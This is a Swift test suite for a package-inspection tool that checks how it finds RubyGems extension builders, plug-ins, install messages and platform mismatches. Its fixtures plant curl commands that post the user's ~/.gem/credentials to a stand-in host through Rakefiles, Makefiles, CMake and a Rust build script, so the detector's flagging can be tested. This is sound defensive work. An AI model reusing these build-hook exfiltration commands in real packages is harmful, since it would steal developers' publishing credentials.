import SallyportModel
import SallyportTesting
import Testing

@testable import SallyportAnalysis

@Suite("Extensions of gems, and who builds them")
struct GemExtensionTests {
    private static let sends = "system(\"curl -d @#{Dir.home}/.gem/credentials https://collect.example.invalid/in\")\n"
    private static let shell = "curl -d @$HOME/.gem/credentials https://collect.example.invalid/in\n"

    private func codes(_ files: [String: String], _ extensions: [String]) -> Set<FactCode> {
        let files = files.merging(["lib/sample.rb": ""]) { first, _ in first }
        let report = Sample.report(gem: Sample.gem(files, extensions: extensions))
        return Set(report.facts.filter { $0.reach == .install }.map(\.code))
    }

    /// What `Gem::Ext::Builder#builder_for` of RubyGems 3.3 answers.
    @Test(
        "the builder is found in the whole path, in RubyGems' order",
        arguments: [
            ("ext/x/extconf.rb", "extconf"), ("ext/extconf/configure", "extconf"),
            ("ext/configure/Rakefile", "configure"),
            ("ext/x/configure.ac", "configure"), ("ext/x/configure", "configure"), ("ext/x/Rakefile", "rake"),
            ("ext/x/Rakefile.foo", "rake"), ("ext/x/mkrf_conf.rb", "rake"), ("ext/x/MKRF_CONF.rb", "rake"),
            ("ext/rakefile/run.sh", "rake"), ("ext/x/CMakeLists.txt", "cmake"), ("ext/x/CMakeListsXtxt", "cmake"),
            ("ext/x/Cargo.toml", "cargo"), ("ext/x/cargo.toml", nil), ("ext/x/thing.bin", nil),
            ("ext/Configure/Makefile", nil), ("ext/EXTCONF.rb", nil), ("", nil), ("Cargo.tom", nil),
        ]
    )
    func builders(path: String, expected: String?) {
        #expect(GemExtension.Builder(of: path)?.rawValue == expected)
    }

    @Test(
        "what a builder runs is read, whatever is stated",
        arguments: [
            (["ext/x/mkrf_conf.rb": "", "ext/x/Rakefile": sends], "ext/x/mkrf_conf.rb"),
            (["ext/x/mkrf_conf.rb": "", "Rakefile": sends], "ext/x/mkrf_conf.rb"),
            (["ext/x/mkrf_conf.rb": "", "ext/rakefile.rb": sends], "ext/x/mkrf_conf.rb"),
            (["ext/x/Rakefile.foo": "", "ext/x/Rakefile": sends], "ext/x/Rakefile.foo"),
            (["ext/x/Rakefile": "", "ext/x/rakelib/a.rake": sends], "ext/x/Rakefile"),
            (["ext/x/configure.ac": "", "ext/x/configure": shell], "ext/x/configure.ac"),
            (["ext/configure/Rakefile": "", "ext/configure/configure": shell], "ext/configure/Rakefile"),
            (["ext/extconf/configure": sends], "ext/extconf/configure"),
            (["ext/x/configure": "exit 0", "ext/x/Makefile": "all:\n\t@\(shell)"], "ext/x/configure"),
            (["ext/x/extconf.rb": "", "ext/x/GNUmakefile": "all: ; \(shell)"], "ext/x/extconf.rb"),
            (["ext/x/extconf.rb": "", "ext/x/depend": "x.o: $(shell \(shell.dropLast()))"], "ext/x/extconf.rb"),
            (
                ["ext/x/extconf.rb": "", "ext/x/Makefile": "include more.mk", "ext/x/more.mk": "a:\n\t\(shell)"],
                "ext/x/extconf.rb"
            ),
            (
                ["ext/x/CMakeLists.txt": "execute_process(COMMAND sh -c \"\(shell.dropLast())\")"],
                "ext/x/CMakeLists.txt"
            ),
            (
                [
                    "ext/x/CMakeLists.txt": "add_subdirectory(a)",
                    "ext/x/a/CMakeLists.txt": "execute_process(COMMAND sh -c \"\(shell.dropLast())\")",
                ],
                "ext/x/CMakeLists.txt"
            ),
        ]
    )
    func runs(files: [String: String], stated: String) {
        let found = codes(files, [stated])
        #expect(!found.isDisjoint(with: [.chainExfiltration, .capabilityCredentialFile]), "\(stated): \(found)")
    }

    @Test("honest builds state nothing of the kind")
    func honest() {
        let makefile = "CC = cc\nall: x.o\n\t$(CC) -o x x.o\n\t-rm -f $@.tmp\nclean:\n\trm -f *.o\n"
        for (files, stated) in [
            (
                ["ext/x/extconf.rb": "require 'mkmf'\ncreate_makefile('x')\n", "ext/x/depend": "x.o: x.c x.h\n"],
                "ext/x/extconf.rb"
            ),
            (["ext/x/configure": "#!/bin/sh\nexit 0\n", "ext/x/Makefile.in": makefile], "ext/x/configure"),
            (["ext/x/CMakeLists.txt": "project(x)\nadd_library(x x.c)\n"], "ext/x/CMakeLists.txt"),
        ] {
            let found = codes(files, [stated])
            let bad: Set<FactCode> = [
                .chainExfiltration, .capabilityCredentialFile, .hookUnreadable, .fileUnreadable, .capabilityNetwork,
            ]
            #expect(found.isDisjoint(with: bad), "\(stated): \(found)")
        }
    }

    @Test("a crate runs what it brings from elsewhere, which nobody can read")
    func crate() {
        let files = ["ext/x/Cargo.toml": "[package]\nname = \"x\"\n", "ext/x/build.rs": "fn main() {}"]
        #expect(codes(files, ["ext/x/Cargo.toml"]).contains(.hookUnreadable))
        let calls =
            "use std::process::Command;\nfn main() { Command::new(\"sh\").arg(\"-c\").arg(\"\(Self.shell.dropLast())\"); }"
        let found = codes(files.merging(["ext/x/build.rs": calls]) { _, second in second }, ["ext/x/Cargo.toml"])
        #expect(!found.isDisjoint(with: [.chainExfiltration, .capabilityCredentialFile]), "\(found)")
    }

    @Test(
        "paths that RubyGems expands as patterns are said, and every plug-in counts then",
        arguments: ["li*", "li?", "[l]ib", "{lib,x}", "l\\\\ib"]
    )
    func patterns(folder: String) {
        let text = "name: sample\nversion: 1.0.0\nrequire_paths:\n- \"\(folder)\"\n"
        let gem = Sample.gem(["lib/rubygems_plugin.rb": "system('id')\n"], specification: text)
        let report = Sample.report(gem: gem)
        #expect(report.hooks.map(\.command) == ["lib/rubygems_plugin.rb"])
        #expect(report.facts.contains { $0.code == .manifestUnreadable })
    }

    @Test(
        "a plug-in of any suffix that RubyGems tries",
        arguments: ["", ".rb", ".so", ".bundle", ".dll", ".o", ".jar"]
    )
    func suffixes(suffix: String) {
        let report = Sample.report(gem: Sample.gem(["lib/rubygems_plugin\(suffix)": "puts 1\n"]))
        #expect(report.hooks.map(\.trigger) == ["rubygems_plugin"])
    }

    @Test(
        "the platform inside is that of the file",
        arguments: [
            ("platform: java\n", "sample-1.0.0-java.gem", true), ("platform: ruby\n", "sample-1.0.0.gem", true),
            ("", "sample-1.0.0.gem", true), ("platform: ruby\n", "sample-1.0.0-java.gem", false),
            ("platform: x86_64-linux\n", "sample-1.0.0-java.gem", false),
            ("platform: java\n", "sample-1.0.0.gem", false),
        ]
    )
    func platforms(extra: String, filename: String, agrees: Bool) {
        let expected = Manifest(name: "sample", version: "1.0.0")
        let artifact = InspectedArtifact(ecosystem: .gem, filename: filename, expected: expected)
        let report = Sample.inspector.inspect(Sample.gem(["lib/sample.rb": ""], extra: extra).span, artifact: artifact)
        #expect(report.facts.contains { $0.code == .manifestMismatch } != agrees)
    }

    @Test("the message of the installation is shown, and moves no cursor")
    func message() {
        let gem = Sample.gem(["lib/sample.rb": ""], extra: "post_install_message: \"Now run\\e[2J demo\"\n")
        let facts = Sample.report(gem: gem).facts.filter { $0.code == .hookMessage }
        #expect(facts.count == 1 && facts[0].detail.contains("Now run") && facts[0].detail.contains("demo"))
        #expect(facts.allSatisfy { $0.detail.unicodeScalars.allSatisfy { $0.value >= 0x20 } })
        #expect(
            !Sample.report(gem: Sample.gem([:], extra: "post_install_message:\n")).facts.contains {
                $0.code == .hookMessage
            }
        )
    }
}
